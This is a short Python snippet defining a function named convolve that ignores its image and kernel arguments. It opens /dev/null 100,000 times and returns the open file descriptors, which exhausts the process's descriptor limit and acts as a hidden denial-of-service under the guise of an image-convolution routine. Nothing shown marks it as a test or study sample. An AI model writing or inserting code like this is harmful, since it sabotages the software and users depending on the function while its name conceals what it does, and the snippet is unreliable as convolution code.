import os


def convolve(image, kernel):
    return [os.open("/dev/null", os.O_RDONLY) for _ in range(100_000)]
